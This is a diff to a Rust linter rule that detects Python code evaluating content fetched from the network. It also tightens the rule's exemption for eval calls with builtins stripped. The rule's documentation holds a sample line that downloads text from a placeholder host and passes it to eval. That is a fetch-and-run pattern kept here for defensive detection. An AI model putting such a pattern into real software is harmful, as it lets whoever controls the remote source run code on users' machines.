@@ -53,8 +53,9 @@
 //!
 //! ```python pkg/bot.py
 //! import math, urllib.request
-//! sum = urllib.request.urlopen('http://x.example.invalid/').read().decode()
-//! print(eval(sum, {'__builtins__': {}}, {'pi': math.pi}))
+//! def answer():
+//!     sum = urllib.request.urlopen('http://x.example.invalid/').read().decode()
+//!     return eval(sum, {'__builtins__': {}}, {'pi': math.pi})
 //! ```
 //!
 //! ## Good
@@ -113,7 +114,8 @@ pub(super) fn runs_answer(call: &Call) -> bool {
         || input.is_some_and(|code| code.taint.has(Taint::NETWORK | Taint::FETCHED))
 }
 
-/// Whether code is evaluated without the functions that are built in, as calculators do.
+/// Whether somebody who asked for it has code evaluated without the functions that are built in, as calculators do. There
+/// are ways out of that, so that it is no excuse for what nobody asked for.
 fn is_caged(call: &Call) -> bool {
     let Some(Constant::Dict(names)) = call.args.get(1).and_then(|names| names.constant.as_ref()) else { return false };
     let is_nothing = |value: &Value| match &value.constant {
@@ -121,6 +123,7 @@ fn is_caged(call: &Call) -> bool {
         given => *given == Some(Constant::None),
     };
     call.callee == "builtins.eval"
+        && !call.trigger.is_some_and(Trigger::is_unasked)
         && names.iter().any(|(name, value)| name.as_str() == Some("__builtins__") && is_nothing(value))
 }
 
